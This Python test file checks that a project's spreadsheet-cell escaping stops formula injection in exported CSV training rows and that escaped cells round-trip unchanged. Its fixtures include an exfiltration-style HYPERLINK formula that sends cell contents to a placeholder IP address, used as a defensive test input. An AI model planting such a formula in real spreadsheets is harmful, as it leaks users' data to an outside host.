"""Cells that a spreadsheet shows and does not calculate, and that a program reads as they were."""

from __future__ import annotations

import csv
import io

import pytest

from holdspace.domain.conversation.transcript import Speaker, Transcript, Turn
from holdspace.domain.table_cells import as_text, from_text
from holdspace.workflows.training_rows import as_csv, training_rows

BEGINS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
FORMULAS = [*(f"{begin}1+1" for begin in BEGINS), '=HYPERLINK("http://192.0.2.1/?"&A1)']


@pytest.mark.parametrize("words", [*FORMULAS, "plain", "'tis so", ""])
def test_a_cell_is_no_formula_and_comes_back_as_it_was(words: str):
    assert not as_text(words).startswith(tuple(BEGINS))
    assert from_text(as_text(words)) == words


def test_no_cell_of_training_rows_is_a_formula():
    spoken = [words.strip() for words in FORMULAS]  # a transcript keeps no space at the ends of a turn
    said = Transcript(tuple(Turn(place, Speaker.CLIENT, words) for place, words in enumerate(spoken)))

    [_, *rows] = csv.reader(io.StringIO(as_csv(list(training_rows("practice-1", said, [])))))

    assert [from_text(row[3]) for row in rows] == spoken
    assert all(cell == "" or cell[0] not in BEGINS for row in rows for cell in row)
